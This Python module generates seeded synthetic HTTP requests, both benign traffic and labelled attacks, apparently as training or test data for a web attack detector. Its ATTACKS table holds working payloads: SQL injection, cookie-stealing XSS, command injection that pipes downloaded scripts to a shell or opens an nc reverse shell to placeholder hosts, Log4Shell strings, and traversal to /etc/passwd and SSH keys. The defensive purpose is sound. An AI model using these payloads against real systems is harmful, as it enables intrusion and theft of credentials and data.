"""Requests of attackers and of everybody else, made by chance from tables: the same number gives the same ones.

An attack is a payload of a family, in a place of a request, in an encoding that the place allows. What is ordinary are
forms, searches in several languages, interfaces that speak JSON, uploads, long cookies and downloads.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from random import Random
from urllib.parse import quote, quote_plus, urlencode

import msgspec

AGENTS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605",
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0 Mobile Safari/537.36",
)
FORM, JSON = "application/x-www-form-urlencoded", "application/json"
BOUNDARY = "----part7MA4YWxkTrZu0gW"


class Sample(msgspec.Struct, frozen=True):
    """A request; ``family`` is empty for what is ordinary. Texts have a letter a byte."""

    family: str
    place: str
    method: str
    target: str
    headers: tuple[tuple[str, str], ...]
    body: bytes = b""


ATTACKS: dict[str, tuple[str, ...]] = {
    "sql": (
        "{n}' or '{n}'='{n}",
        "{n}' OR 1=1-- -",
        "{w}' UNION SELECT {w}, {w}2 FROM users-- ",
        "{n} union all select null,version(),{n}",
        "{n}; DROP TABLE {w}; --",
        "{n}' AND SLEEP({n})#",
        "{n} AND (SELECT COUNT(*) FROM information_schema.tables)>{n}",
        "'; exec xp_cmdshell('ping {w}')--",
        "{w}' AND extractvalue(1,concat(0x7e,database()))-- -",
        "{n}) or benchmark(9000000,md5({n}))#",
        "{w}'/**/or/**/'{w}'like'{w}",
        "{n}';WAITFOR DELAY '0:0:{n}'--",
        "{w}' having 1=1--",
        "{n} or pg_sleep({n})--",
        "admin'--",
        "{w}' INTO OUTFILE '/var/www/{w}.php",
        '{w}" or ""="',
        "{n}' and ascii(substring((select password from users limit 1),1,1))>{n}",
    ),
    "script": (
        "<script>alert({n})</script>",
        "<ScRiPt src=//{w}.test/x.js></sCrIpT>",
        '"><img src=x onerror=alert({n})>',
        "<svg/onload=alert('{w}')>",
        "javascript:alert(document.cookie)",
        "<iframe src=javascript:alert({n})>",
        "<body onload=fetch('//{w}.test/'+document.cookie)>",
        "'-alert({n})-'<script>",
        "<a href=\"javascript:eval(atob('{w}'))\">{w}</a>",
        '<math><a xlink:href="javascript:alert({n})">{w}',
        '<object data="data:text/html;base64,PHNjcmlwdD4=">',
        '<input autofocus onfocus="alert({n})">',
        "<style>@import'//{w}.test/x.css';</style>",
        '<meta http-equiv="refresh" content="0;url=javascript:alert({n})">',
        "<embed src=//{w}.test/x.swf allowscriptaccess=always>",
    ),
    "command": (
        "; cat /etc/passwd",
        "| id; uname -a",
        "$(wget http://{w}.test/{w}.sh -O- | sh)",
        "`nc -e /bin/sh 192.0.2.{n} 4444`",
        "&& ping -c {n} 192.0.2.1",
        "|| curl http://{w}.test/{w} | bash",
        "() {{ :;}}; /bin/bash -c 'echo {w}'",
        "& net user {w} {w} /add",
        "cmd.exe /c dir c:\\\\",
        "powershell -enc {w}{w} invoke-expression",
        "; python3 -c 'import os;os.system(\"id\")'",
        "${{jndi:ldap://{w}.test/a}}",
        "; rm -rf /tmp/{w}",
        "\n/usr/bin/id",
    ),
    "file": (
        "../../../../etc/passwd",
        "..\\\\..\\\\..\\\\windows\\\\win.ini",
        "....//....//etc/shadow",
        "/etc/passwd",
        "../../{w}/.htaccess",
        "file:///etc/hosts",
        "/proc/self/environ",
        "../../../../var/log/apache2/access.log",
        "/{w}/../../.ssh/id_rsa",
        "..%2f..%2f..%2fetc%2fpasswd",
        "C:\\\\boot.ini",
        "/var/www/html/wp-config.php",
    ),
    "remote": (
        "http://192.0.2.{n}/{w}.txt?",
        "https://192.0.2.{n}/shell.php",
        "ftp://192.0.2.{n}/c99.txt?",
        "http://{w}.test/r57.txt?",
        "http://{w}.test/cmd.gif?&cmd=id?",
    ),
    "php": (
        "<?php system('{w}'); ?>",
        "<?= phpinfo(); ?>",
        "php://filter/convert.base64-encode/resource={w}.php",
        "data://text/plain;base64,{w}",
        'O:8:"{w}":1:{{s:4:"file";s:9:"shell.php";}}',
        "base64_decode('{w}')",
        "eval(gzinflate(base64_decode('{w}')))",
        "allow_url_include=1&auto_prepend_file=php://input",
        "$_GET['{w}']($_POST['{w}'])",
        "expect://id",
        "phar://{w}.phar/{w}",
        "call_user_func('{w}', $_REQUEST)",
    ),
    "java": (
        "%{{(#_='multipart/form-data').(#cmd='id').(#p=new java.lang.ProcessBuilder(#cmd))}}",
        "${{T(java.lang.Runtime).getRuntime().exec('id')}}",
        "java.lang.Runtime.getRuntime().exec('{w}')",
        "class.module.classLoader.resources.context.parent.pipeline.first.pattern=java.io.{w}",
        "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA",
        "#_memberAccess['allowStaticMethodAccess']=true,java.lang.ProcessBuilder",
        "org.apache.commons.collections.functors.InvokerTransformer",
    ),
    "session": (
        "<script>document.cookie='sessionid={w}'</script>",
        'document.cookie="PHPSESSID={w};domain=.{w}.test"',
        '<meta http-equiv="Set-Cookie" content="PHPSESSID={w};expires=0">',
    ),
    "node": (
        "require('child_process').exec('id')",
        "_$$ND_FUNC$$_function(){{require('child_process').exec('{w}')}}()",
        "this.constructor.constructor('return process')().exit()",
    ),
}
SCANNERS = ("sqlmap/1.7#stable", "Mozilla/5.00 (Nikto/2.1.6)", "Nessus", "masscan/1.3", "WPScan v3.8", "Nuclei - 2.9")
_WORDS = ("apple", "river", "orange", "window", "garden", "silver", "market", "planet", "coffee", "bridge", "summer")
_NAMES = ("q", "id", "page", "name", "file", "text", "comment", "search", "item", "lang", "sort", "city", "url", "data")
SENTENCES = (
    "Where can I buy a good pair of running shoes?",
    "Ich hätte gern zwei Brötchen und einen Kaffee, bitte.",
    "Où se trouve la gare la plus proche ?",
    "El niño comió una manzana en el jardín.",
    "Привет, как дела сегодня?",
    "今日はとても良い天気ですね。",
    "请问图书馆在哪里？",
    "أين أقرب محطة قطار؟",
    "Kde je najbližšia lekáreň?",
    "Can you select a table for two from the list and order by price?",
    "The update of our drop-in centre: union members meet at 5 pm.",
    "It's 100% cotton & machine-washable (30 °C); size: M/L.",
    "O'Brien & Sons -- plumbing since 1984",
    "Dear Sir or Madam, I'd like to return item #4711; it doesn't fit.",
    "5 < 7 and 9 > 3, isn't it?",
    "See https://example.org/help?topic=returns for details.",
)


def _filled(random: Random, text: str) -> str:
    return text.format(n=random.randint(1, 99), w=random.choice(_WORDS))


def _browser(random: Random, **more: str) -> tuple[tuple[str, str], ...]:
    usual = {
        "Host": "shop.test",
        "User-Agent": random.choice(AGENTS),
        "Accept": random.choice(("*/*", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8")),
        "Accept-Language": random.choice(("en-GB,en;q=0.5", "de-DE,de;q=0.9", "fr", "ja,en;q=0.3")),
        "Accept-Encoding": "gzip, deflate, br",
    }
    return tuple((usual | {k.replace("_", "-"): v for k, v in more.items()}).items())


def _letters(text: str) -> str:
    """What stands on the wire, a letter a byte."""
    return text.encode().decode("latin-1")


def _with_body(random: Random, body: bytes, kind: str, **more: str) -> tuple[tuple[str, str], ...]:
    return _browser(random, Content_Type=kind, Content_Length=str(len(body)), **more)


def _escaped(random: Random, text: str) -> str:
    """In one of the ways in which clients write arguments."""
    ways: tuple[Callable[[str], str], ...] = (
        quote_plus,
        lambda t: quote(t, safe=""),
        lambda t: quote(t, safe="/:()'*,;="),
        lambda t: "".join(f"%{b:02X}" for b in t.encode()),
        lambda t: "".join(f"%{b:02x}" if random.random() < 0.3 or not 0x30 <= b < 0x7B else chr(b) for b in t.encode()),
    )
    return random.choice(ways)(text)


def _parts(fields: dict[str, str], files: dict[str, tuple[str, str, bytes]]) -> bytes:
    pieces = [
        f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{k}"\r\n\r\n{v}\r\n'.encode() for k, v in fields.items()
    ]
    for key, (name, kind, content) in files.items():
        head = f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{key}"; filename="{name}"\r\n'
        pieces.append(f"{head}Content-Type: {kind}\r\n\r\n".encode() + content + b"\r\n")
    return b"".join(pieces) + f"--{BOUNDARY}--\r\n".encode()


def _in_query(random: Random, text: str) -> Sample:
    target = f"/{random.choice(_WORDS)}?{random.choice(_NAMES)}={_escaped(random, text)}"
    return Sample("", "query", "GET", target, _browser(random))


def _in_form(random: Random, text: str) -> Sample:
    body = f"{random.choice(_NAMES)}={_escaped(random, text)}&ok=1".encode()
    return Sample("", "form", "POST", f"/{random.choice(_WORDS)}", _with_body(random, body, FORM), body)


def _in_json(random: Random, text: str) -> Sample:
    nested = random.random() < 0.5
    value: object = {"items": [{"text": text}]} if nested else {random.choice(_NAMES): text, "n": 1}
    body = json.dumps(value, ensure_ascii=random.random() < 0.5).encode()
    return Sample("", "json", "POST", f"/api/{random.choice(_WORDS)}", _with_body(random, body, JSON), body)


def _in_parts(random: Random, text: str) -> Sample:
    body = _parts({random.choice(_NAMES): text, "ok": "1"}, {})
    kind = f"multipart/form-data; boundary={BOUNDARY}"
    return Sample("", "multipart", "POST", f"/{random.choice(_WORDS)}", _with_body(random, body, kind), body)


def _in_cookie(random: Random, text: str) -> Sample:
    value = _letters(text.replace(";", "%3B").replace("\n", "%0A"))
    return Sample("", "cookie", "GET", f"/{random.choice(_WORDS)}", _browser(random, Cookie=f"lang=en; last={value}"))


def _in_header(random: Random, text: str) -> Sample:
    name = random.choice(("Referer", "User_Agent", "X_Forwarded_Host", "Accept_Language"))
    return Sample(
        "", "header", "GET", f"/{random.choice(_WORDS)}", _browser(random, **{name: _letters(text.replace("\n", " "))})
    )


def _in_path(random: Random, text: str) -> Sample:
    return Sample("", "path", "GET", f"/{random.choice(_WORDS)}/{quote(text, safe='/.:')}", _browser(random))


PLACES = (_in_query, _in_query, _in_form, _in_json, _in_parts, _in_cookie, _in_header, _in_path)


def attacks(random: Random, count: int) -> Iterator[Sample]:
    """A tenth of them are scanners."""
    for _ in range(count):
        if random.random() < 0.1:
            agent = random.choice(SCANNERS)
            yield Sample("scanner", "agent", "GET", f"/{random.choice(_WORDS)}", _browser(random, User_Agent=agent))
            continue
        family = random.choice(sorted(ATTACKS))
        made = random.choice(PLACES)(random, _filled(random, random.choice(ATTACKS[family])))
        yield msgspec.structs.replace(made, family=family)


def _search(random: Random) -> Sample:
    pairs = {
        "q": random.choice(SENTENCES),
        "page": str(random.randint(1, 40)),
        "sort": random.choice(("price", "-date")),
    }
    return Sample("", "search", "GET", f"/search?{urlencode(pairs)}", _browser(random, Referer="https://shop.test/"))


def _page(random: Random) -> Sample:
    path = "/".join(random.sample(_WORDS, random.randint(1, 4)))
    ending = random.choice(("", ".html", ".css", ".js", ".png", "/"))
    return Sample(
        "", "page", "GET", f"/{path}{ending}?v={random.randint(1, 9)}.{random.randint(0, 20)}", _browser(random)
    )


def _filled_form(random: Random) -> Sample:
    pairs = {
        "name": random.choice(("Anna Müller", "José García", "Zoë O'Neil", "Иван Петров", "李小龙", "Mary Smith")),
        "email": f"{random.choice(_WORDS)}.{random.choice(_WORDS)}@example.org",
        "phone": f"+49 30 {random.randint(1000000, 9999999)}",
        "message": " ".join(random.sample(SENTENCES, random.randint(1, 3))),
        "agree": "on",
    }
    body = urlencode(pairs).encode()
    return Sample("", "form", "POST", "/contact", _with_body(random, body, FORM, Origin="https://shop.test"), body)


def _login(random: Random) -> Sample:
    signs = "abcdefghijkmnpqrstuvwxyzABCDEFGH23456789!$%&/()=?+*#-_.:"
    body = urlencode({"user": random.choice(_WORDS), "password": "".join(random.choices(signs, k=14))}).encode()
    return Sample("", "login", "POST", "/login", _with_body(random, body, FORM), body)


def _interface(random: Random) -> Sample:
    item = {
        "id": random.randint(1, 10**9),
        "title": random.choice(SENTENCES),
        "price": round(random.random() * 100, 2),
        "tags": random.sample(_WORDS, 3),
        "when": f"2026-0{random.randint(1, 9)}-1{random.randint(0, 9)}T12:00:00Z",
        "shipping": {
            "city": random.choice(("Köln", "Łódź", "東京", "Lyon")),
            "express": random.random() < 0.5,
            "note": None,
        },
    }
    body = json.dumps(item if random.random() < 0.5 else [item, item], ensure_ascii=False).encode()
    method = random.choice(("POST", "PUT", "PATCH"))
    headers = _with_body(random, body, JSON, Authorization=f"Bearer {random.randbytes(48).hex()}")
    return Sample("", "json", method, f"/api/items/{random.randint(1, 999)}", headers, body)


def _upload(random: Random) -> Sample:
    content = random.choice(
        (random.randbytes(2000), "\n".join(SENTENCES).encode(), b"%PDF-1.7\n" + random.randbytes(900))
    )
    file = (f"{random.choice(_WORDS)}.{random.choice(('jpg', 'txt', 'pdf'))}", "application/octet-stream", content)
    body = _parts({"title": random.choice(SENTENCES), "album": "7"}, {"file": file})
    kind = f"multipart/form-data; boundary={BOUNDARY}"
    return Sample("", "upload", "POST", "/files", _with_body(random, body, kind), body)


def _long_cookie(random: Random) -> Sample:
    said = "; ".join(f"{w}={random.randbytes(random.randint(8, 60)).hex()}" for w in _WORDS)
    return Sample("", "cookies", "GET", "/account", _browser(random, Cookie=said))


def _delete(random: Random) -> Sample:
    headers = _browser(random, Authorization=f"Bearer {random.randbytes(48).hex()}", Content_Length="0")
    return Sample("", "delete", "DELETE", f"/api/items/{random.randint(1, 999)}", headers)


ORDINARY = (_search, _page, _filled_form, _login, _interface, _upload, _long_cookie, _delete)


def ordinary(random: Random, count: int) -> Iterator[Sample]:
    for _ in range(count):
        yield random.choice(ORDINARY)(random)
